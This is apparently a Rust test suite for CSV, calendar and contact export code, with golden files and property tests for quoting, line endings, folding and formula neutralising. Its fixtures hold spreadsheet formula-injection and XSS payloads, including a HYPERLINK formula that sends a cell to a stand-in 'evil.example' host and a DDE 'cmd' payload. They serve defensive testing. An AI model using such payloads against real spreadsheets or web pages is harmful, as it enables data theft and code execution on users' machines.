//! Golden files and invariants for every export format.
//!
//! The golden files under `tests/fixtures/export/` were written by hand from
//! the specs (see `make_fixtures.py` there, which spells out each line and
//! checks CRLF ends and 75-octet lines), not by this code: a test failing
//! here means the output left the spec, not that a snapshot needs updating.

use chrono::{NaiveDate, TimeZone, Utc};
use proptest::prelude::*;

use super::crm::{
    hubspot_deals_csv, salesforce_opportunities_csv, truncate_chars, CrmDeal, SALESFORCE_HEADERS,
};
use super::csv::{
    machine_number, needs_neutralising, read_csv, sniff_delimiter, strip_neutraliser, Cell,
    CsvError, CsvOptions, CsvWriter, Delimiter, ReadOptions, RowReader,
};
use super::ics::{calendar, stable_uid, CalendarEvent};
use super::text::fold_line;
use super::unfold;
use super::vcard::{family_given, vcards, Contact};

macro_rules! golden {
    ($name:literal) => {
        include_str!(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/export/",
            $name
        ))
    };
}

/// Byte-for-byte comparison that says where the first difference is (a
/// plain `assert_eq!` of two 10 KB strings is unreadable).
fn assert_same(actual: &str, expected: &str) {
    if actual == expected {
        return;
    }
    let at = actual
        .bytes()
        .zip(expected.bytes())
        .position(|(a, e)| a != e)
        .unwrap_or(actual.len().min(expected.len()));
    let from = at.saturating_sub(40);
    panic!(
        "output differs from the golden file at byte {at} (lengths {} vs {}):\n  got      {:?}\n  expected {:?}",
        actual.len(),
        expected.len(),
        String::from_utf8_lossy(&actual.as_bytes()[from..(at + 40).min(actual.len())]),
        String::from_utf8_lossy(&expected.as_bytes()[from..(at + 40).min(expected.len())]),
    );
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

const LONG_NOTE_UNIT: &str =
    "Zoë said: <img src=x onerror=alert(1)>, then =HYPERLINK(\"x\"); ok\\ ";

fn long_note() -> String {
    let note: String = LONG_NOTE_UNIT.repeat(80).chars().take(5000).collect();
    assert_eq!(note.chars().count(), 5000);
    note
}

// ---------------------------------------------------------------- CSV

#[test]
fn cells_golden() {
    let mut csv = CsvWriter::new(&CsvOptions {
        delimiter: Delimiter::Comma,
        bom: false,
    });
    csv.header(&["text", "kind"]);
    csv.row(&[Cell::User("\tindent"), Cell::Generated("-2")]);
    csv.row(&[Cell::User("\rreturn"), Cell::Generated("")]);
    csv.row(&[Cell::User("'quoted already"), Cell::Generated("+3")]);
    csv.row(&[Cell::User("a\"b"), Cell::User("x,y")]);
    csv.row(&[Cell::User("line\nbreak"), Cell::Generated("@")]);
    csv.row(&[Cell::User("")]);
    csv.row(&[Cell::User("Zoë Café"), Cell::Generated("2026-03-01")]);
    assert_same(&csv.finish(), golden!("cells.csv"));
}

fn hubspot_deals() -> Vec<CrmDeal> {
    vec![
        CrmDeal {
            name: "Northwind Health".into(),
            pipeline: "Sales Pipeline".into(),
            stage: "Contract sent".into(),
            amount: Some(400_000.0),
            close_date: Some(day(2026, 12, 15)),
            owner_email: "rep@example.com".into(),
            description: "Renewal, plus 2 new sites".into(),
            note: "Champion said \"yes\"\nSend MSA v2".into(),
            ..CrmDeal::default()
        },
        CrmDeal {
            name: "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")".into(),
            pipeline: "default".into(),
            stage: "+1 555".into(),
            amount: Some(-2.0),
            owner_email: "@SUM(A1:A9)".into(),
            description: "<img src=x onerror=alert(1)>".into(),
            note: "-2".into(),
            ..CrmDeal::default()
        },
        CrmDeal {
            name: "Zoë Café".into(),
            pipeline: "default".into(),
            stage: "appointmentscheduled".into(),
            ..CrmDeal::default()
        },
        CrmDeal {
            name: "Acme".into(),
            pipeline: "default".into(),
            stage: "qualifiedtobuy".into(),
            amount: Some(1234.567),
            close_date: Some(day(2027, 1, 4)),
            note: " =1+1, and more".into(),
            ..CrmDeal::default()
        },
    ]
}

#[test]
fn hubspot_golden() {
    let csv = hubspot_deals_csv(&hubspot_deals(), &CsvOptions::default());
    assert_same(&csv, golden!("hubspot_deals.csv"));
}

#[test]
fn hubspot_semicolon_golden() {
    let deal = CrmDeal {
        name: "Müller; Söhne GmbH".into(),
        pipeline: "default".into(),
        stage: "Angebot".into(),
        amount: Some(1234.5),
        close_date: Some(day(2026, 3, 1)),
        description: "Preis 1,5 Mio".into(),
        ..CrmDeal::default()
    };
    let options = CsvOptions {
        delimiter: Delimiter::Semicolon,
        bom: true,
    };
    assert_same(
        &hubspot_deals_csv(&[deal], &options),
        golden!("hubspot_deals_semicolon.csv"),
    );
}

#[test]
fn salesforce_golden() {
    let deals = [
        CrmDeal {
            name: "Northwind Health".into(),
            stage: "Negotiation/Review".into(),
            close_date: Some(day(2026, 12, 15)),
            amount: Some(400_000.5),
            probability: Some(60),
            next_step: "é".repeat(300),
            description: "Long note ".repeat(500),
            ..CrmDeal::default()
        },
        CrmDeal {
            name: "=1+1".into(),
            stage: "Prospecting".into(),
            probability: Some(150),
            next_step: format!("-{}", "x".repeat(299)),
            description: "<img src=x onerror=alert(1)>".into(),
            ..CrmDeal::default()
        },
        CrmDeal {
            name: "N".repeat(130),
            amount: Some(0.0),
            probability: Some(0),
            ..CrmDeal::default()
        },
    ];
    let csv = salesforce_opportunities_csv(&deals, &CsvOptions::default());
    assert_same(&csv, golden!("salesforce_opportunities.csv"));
    // What Data Loader sees: NextStep fits its 255 characters, the `'`
    // of a neutralised value included.
    let table = read_csv(csv.as_bytes(), &ReadOptions::default()).unwrap();
    assert_eq!(table.rows[0], SALESFORCE_HEADERS);
    for row in &table.rows[1..] {
        assert!(row[5].chars().count() <= 255);
        assert!(row[0].chars().count() <= 120);
    }
    assert_eq!(table.rows[2][5].chars().count(), 255);
}

#[test]
fn truncation_never_splits_a_character() {
    assert_eq!(truncate_chars("aé€😀b", 4), "aé€😀");
    assert_eq!(truncate_chars("aé", 5), "aé");
    assert_eq!(truncate_chars("", 0), "");
}

#[test]
fn machine_numbers() {
    let c = Delimiter::Comma;
    let s = Delimiter::Semicolon;
    assert_eq!(machine_number(400_000.0, 2, c), "400000");
    assert_eq!(machine_number(1234.5, 2, c), "1234.5");
    assert_eq!(machine_number(1234.5, 2, s), "1234,5");
    assert_eq!(machine_number(1234.567, 2, c), "1234.57");
    assert_eq!(machine_number(0.05, 2, c), "0.05");
    assert_eq!(machine_number(-2.0, 2, c), "-2");
    assert_eq!(machine_number(-0.001, 2, c), "0");
    assert_eq!(machine_number(12.5, 0, c), "13");
    assert_eq!(machine_number(1e20, 2, c), "100000000000000000000");
    assert_eq!(machine_number(f64::NAN, 2, c), "");
    assert_eq!(machine_number(f64::INFINITY, 2, c), "");
}

#[test]
fn delimiter_follows_the_decimal_separator() {
    assert_eq!(Delimiter::for_decimal_separator(','), Delimiter::Semicolon);
    assert_eq!(Delimiter::for_decimal_separator('.'), Delimiter::Comma);
}

#[test]
fn reads_crm_exports_with_bom_crlf_and_embedded_newlines() {
    let hubspot = "\u{feff}Deal Name,Deal Stage,Amount\r\n\"Northwind, Inc.\",closedwon,\"1,200\"\r\n\"Two\r\nlines\",open,5\r\n";
    let table = read_csv(hubspot.as_bytes(), &ReadOptions::default()).unwrap();
    assert_eq!(table.delimiter, Delimiter::Comma);
    assert_eq!(
        table.rows,
        vec![
            vec!["Deal Name", "Deal Stage", "Amount"],
            vec!["Northwind, Inc.", "closedwon", "1,200"],
            vec!["Two\r\nlines", "open", "5"],
        ]
    );
    let german = "Name;Phase;Betrag\nMüller;Gewonnen;1,5\n\nSchmidt;Offen;2\n";
    let table = read_csv(german.as_bytes(), &ReadOptions::default()).unwrap();
    assert_eq!(table.delimiter, Delimiter::Semicolon);
    assert_eq!(table.rows.len(), 3, "the blank line is skipped");
    assert_eq!(table.rows[1], vec!["Müller", "Gewonnen", "1,5"]);
}

#[test]
fn long_cells_survive_the_round_trip() {
    let note = long_note() + "\r\n\"quoted\"\n" + &"€".repeat(3000);
    let mut csv = CsvWriter::new(&CsvOptions::default());
    csv.header(&["id", "note"]);
    csv.row(&[Cell::Generated("1"), Cell::User(&note)]);
    csv.row(&[Cell::Generated("2"), Cell::User("short")]);
    let table = read_csv(csv.finish().as_bytes(), &ReadOptions::default()).unwrap();
    assert_eq!(table.rows.len(), 3);
    assert_eq!(table.rows[1][1], note);
    assert_eq!(table.rows[2], vec!["2", "short"]);
}

#[test]
fn sniffs_the_header_line_only() {
    assert_eq!(sniff_delimiter(b"a,b,c\n1;2;3;4;5\n"), Delimiter::Comma);
    assert_eq!(sniff_delimiter(b"\"a,b\";c\n"), Delimiter::Semicolon);
    assert_eq!(sniff_delimiter(b"single\n"), Delimiter::Comma);
    assert_eq!(sniff_delimiter(b""), Delimiter::Comma);
}

#[test]
fn an_unclosed_quote_names_its_line() {
    let broken = "Name,Amount\r\nok,1\r\n\"never closed,2\r\nmore,3\r\n";
    let err = read_csv(broken.as_bytes(), &ReadOptions::default()).unwrap_err();
    assert_eq!(err, CsvError::UnclosedQuote { line: 3 });
    assert_eq!(err.line(), 3);
    assert!(err.to_string().starts_with("Line 3: "));
    // A quote closed on the very last byte is fine, with or without a
    // final line break.
    for good in ["a\n\"x\ny\"", "a\n\"x\ny\"\n", "a,\"\"", "\"\"\"\""] {
        assert!(
            read_csv(good.as_bytes(), &ReadOptions::default()).is_ok(),
            "{good:?}"
        );
    }
}

#[test]
fn a_short_row_is_refused_only_when_strict() {
    let ragged = "a,b,c\n1,2,3\n\"multi\nline\",2,3\n4,5\n";
    let strict = ReadOptions {
        strict: true,
        ..ReadOptions::default()
    };
    let err = read_csv(ragged.as_bytes(), &strict).unwrap_err();
    assert_eq!(
        err,
        CsvError::FieldCount {
            line: 5,
            expected: 3,
            found: 2
        }
    );
    let lenient = read_csv(ragged.as_bytes(), &ReadOptions::default()).unwrap();
    assert_eq!(lenient.rows[3], vec!["4", "5"]);
    // Old Mac line ends (CR alone) count lines the same way.
    let mac = ragged.replace('\n', "\r");
    let err = read_csv(mac.as_bytes(), &strict).unwrap_err();
    assert_eq!(err.line(), 5);
}

#[test]
fn bytes_that_are_not_utf8_name_their_line() {
    let latin1 = b"Name\r\nok\r\nZo\xeb\r\n";
    let err = read_csv(latin1, &ReadOptions::default()).unwrap_err();
    assert_eq!(err, CsvError::NotUtf8 { line: 3 });
}

#[test]
fn reads_fifty_thousand_rows() {
    let mut csv = CsvWriter::new(&CsvOptions::default());
    csv.header(&[
        "Deal Name",
        "Deal Stage",
        "Amount",
        "Create Date",
        "Close Date",
    ]);
    for i in 0..50_000u32 {
        let name = format!("Deal {i}, \"quoted\"");
        let amount = (i * 7).to_string();
        csv.row(&[
            Cell::User(&name),
            Cell::Generated("closedwon"),
            Cell::Generated(&amount),
            Cell::Generated("2026-01-02"),
            Cell::Generated("2026-03-04"),
        ]);
    }
    let text = csv.finish();
    let strict = ReadOptions {
        strict: true,
        ..ReadOptions::default()
    };
    let mut reader = RowReader::new(text.as_bytes(), &strict);
    let mut count = 0;
    for row in &mut reader {
        let row = row.unwrap();
        assert_eq!(row.len(), 5);
        count += 1;
    }
    assert_eq!(count, 50_001);
    assert_eq!(reader.last_line(), 50_001);
    assert_eq!(reader.progress(), (text.len(), text.len()));
}

// ------------------------------------------------------------ calendar

#[test]
fn calendar_golden() {
    let head = &"Review pricing with procurement and the CFO before the board meets i"[..66];
    let events = [
        CalendarEvent {
            uid: stable_uid("decision", &["d42"]),
            date: day(2026, 12, 15),
            summary: "Decision date: Northwind Health".into(),
            description: String::new(),
        },
        CalendarEvent {
            uid: stable_uid("plan", &["d42", "item-7"]),
            date: day(2026, 12, 31),
            summary: "Sign MSA; legal, procurement \\ finance".into(),
            description:
                "Owner: Dana (buyer)\nBring <img src=x onerror=alert(1)> and =HYPERLINK(\"x\")"
                    .into(),
        },
        CalendarEvent {
            uid: stable_uid("plan", &["d42", "8"]),
            date: day(2027, 1, 4),
            summary: format!("{head}é{} done", "€".repeat(51)),
            description: "Line one\r\nLine two\rLine three".into(),
        },
        CalendarEvent {
            uid: stable_uid("plan", &["d42", "9"]),
            date: day(2027, 2, 28),
            summary: "=cmd|' /C calc'!A0".into(),
            description: "   ".into(),
        },
    ];
    let stamp = Utc.with_ymd_and_hms(2026, 12, 1, 9, 30, 5).unwrap();
    assert_same(&calendar(&events, stamp), golden!("plan.ics"));
}

#[test]
fn uids_are_stable_and_unambiguous() {
    assert_eq!(stable_uid("plan", &["d1", "i2"]), "plan-d1-i2@stagecraft");
    assert_eq!(
        stable_uid("plan", &["d1", "i2"]),
        stable_uid("plan", &["d1", "i2"])
    );
    assert_ne!(
        stable_uid("plan", &["a-b", "c"]),
        stable_uid("plan", &["a", "b-c"])
    );
    assert_eq!(stable_uid("plan", &["x y@z"]), "plan-x%20y%40z@stagecraft");
}

#[test]
fn the_last_day_has_no_end_date() {
    let event = CalendarEvent {
        uid: "u".into(),
        date: NaiveDate::MAX,
        summary: "s".into(),
        description: String::new(),
    };
    let ics = calendar(&[event], Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap());
    assert!(ics.contains("DTSTART;VALUE=DATE:"));
    assert!(!ics.contains("DTEND"));
}

// ------------------------------------------------------------ contacts

#[test]
fn contacts_golden() {
    let contacts = [
        Contact {
            name: "Dana Whitfield".into(),
            org: "Northwind Health; Finance".into(),
            title: "CFO, EMEA".into(),
            email: "dana@northwind.example".into(),
            phone: "+1 555 0100".into(),
            note: String::new(),
        },
        Contact {
            name: "López, Ana María".into(),
            title: "Head of IT".into(),
            note: long_note(),
            ..Contact::default()
        },
        Contact {
            email: "someone@example.com".into(),
            ..Contact::default()
        },
        Contact::default(),
        Contact {
            name: "  Cher ".into(),
            note: "<img src=x onerror=alert(1)>".into(),
            ..Contact::default()
        },
    ];
    assert_same(&vcards(&contacts), golden!("stakeholders.vcf"));
}

#[test]
fn family_and_given_names() {
    assert_eq!(family_given("Ana María López"), ("López", "Ana María"));
    assert_eq!(family_given("López, Ana María"), ("López", "Ana María"));
    assert_eq!(family_given(" Cher "), ("Cher", ""));
    assert_eq!(family_given(""), ("", ""));
}

// ---------------------------------------------------------- invariants

#[derive(Debug, Clone)]
enum Kind {
    User,
    Generated,
}

/// Cell text rich in what CSV and spreadsheets treat specially. U+FEFF is
/// left out: a byte-order mark at the very start of a BOM-less file is
/// dropped by every reader, by design.
fn cell_text() -> impl Strategy<Value = String> {
    "[a-zé€😀,;\"\r\n\t=+@' -]{0,12}"
}

fn rows() -> impl Strategy<Value = Vec<Vec<(Kind, String)>>> {
    let cell = (
        prop_oneof![Just(Kind::User), Just(Kind::Generated)],
        cell_text(),
    );
    prop::collection::vec(prop::collection::vec(cell, 1..6), 0..8)
}

proptest! {
    /// Reading what the writer wrote gives back every cell, a neutralised
    /// one with its `'` in front (and without it after strip_neutraliser).
    #[test]
    fn csv_round_trips(rows in rows(), semicolon: bool, bom: bool) {
        let delimiter = if semicolon { Delimiter::Semicolon } else { Delimiter::Comma };
        let mut csv = CsvWriter::new(&CsvOptions { delimiter, bom });
        for row in &rows {
            let cells: Vec<Cell<'_>> = row
                .iter()
                .map(|(kind, text)| match kind {
                    Kind::User => Cell::User(text),
                    Kind::Generated => Cell::Generated(text),
                })
                .collect();
            csv.row(&cells);
        }
        let text = csv.finish();
        prop_assert_eq!(text.starts_with('\u{feff}'), bom);
        prop_assert!(rows.is_empty() || text.ends_with("\r\n"));
        let options = ReadOptions { delimiter: Some(delimiter), strict: false };
        let table = read_csv(text.as_bytes(), &options).unwrap();
        prop_assert_eq!(table.rows.len(), rows.len());
        for (read, written) in table.rows.iter().zip(&rows) {
            prop_assert_eq!(read.len(), written.len());
            for (cell, (kind, original)) in read.iter().zip(written) {
                match kind {
                    Kind::User if needs_neutralising(original) => {
                        prop_assert_eq!(cell, &format!("'{original}"));
                        prop_assert_eq!(strip_neutraliser(cell), original.as_str());
                    }
                    _ => prop_assert_eq!(cell, original),
                }
            }
        }
    }

    /// Every record ends with CRLF: outside quoted fields there is no bare
    /// LF or CR.
    #[test]
    fn csv_records_end_with_crlf(rows in rows()) {
        let mut csv = CsvWriter::new(&CsvOptions::default());
        for row in &rows {
            let cells: Vec<Cell<'_>> = row.iter().map(|(_, t)| Cell::User(t)).collect();
            csv.row(&cells);
        }
        let text = csv.finish();
        let bytes = text.as_bytes();
        let mut quoted = false;
        for (i, &b) in bytes.iter().enumerate() {
            match b {
                b'"' => quoted = !quoted,
                b'\r' if !quoted => prop_assert_eq!(bytes.get(i + 1), Some(&b'\n')),
                b'\n' if !quoted => prop_assert_eq!(bytes[i - 1], b'\r'),
                _ => {}
            }
        }
        prop_assert!(!quoted);
    }

    /// Folded lines never exceed 75 octets, each ends with CRLF, and
    /// unfolding gives back the line.
    #[test]
    fn folding_keeps_lines_short_and_loses_nothing(line in "[a-zé€😀 ;,\\\\]{0,300}") {
        let mut out = String::new();
        fold_line(&line, &mut out);
        prop_assert!(out.ends_with("\r\n"));
        for physical in out.split_terminator("\r\n") {
            prop_assert!(physical.len() <= 75, "{} octets", physical.len());
            prop_assert!(!physical.contains('\r') && !physical.contains('\n'));
        }
        prop_assert_eq!(unfold(&out), format!("{line}\r\n"));
    }

    /// Whatever people type, every line of a calendar or contact file is
    /// CRLF-ended, at most 75 octets, and the properties stay intact.
    #[test]
    fn ics_and_vcf_lines_are_well_formed(
        text in "[a-zé€😀,;\\\\\r\n\t<>=]{0,200}",
        days in 0i64..20_000,
    ) {
        let event = CalendarEvent {
            uid: stable_uid("plan", &[&text]),
            date: day(2000, 1, 1) + chrono::Duration::days(days),
            summary: text.clone(),
            description: text.clone(),
        };
        let ics = calendar(&[event], Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap());
        let contact = Contact { name: text.clone(), note: text.clone(), ..Contact::default() };
        let vcf = vcards(&[contact]);
        for file in [&ics, &vcf] {
            prop_assert!(file.ends_with("\r\n"));
            let unfolded = unfold(file);
            for physical in file.split_terminator("\r\n") {
                prop_assert!(physical.len() <= 75);
                prop_assert!(!physical.contains('\r') && !physical.contains('\n'));
            }
            // Each logical line is one property: typed line breaks were
            // escaped, so none starts a new one.
            for logical in unfolded.split_terminator("\r\n") {
                prop_assert!(logical.contains(':'), "{:?}", logical);
            }
        }
        prop_assert_eq!(ics.matches("BEGIN:VEVENT").count(), 1);
        prop_assert_eq!(vcf.matches("\r\nEND:VCARD\r\n").count(), 1);
    }
}
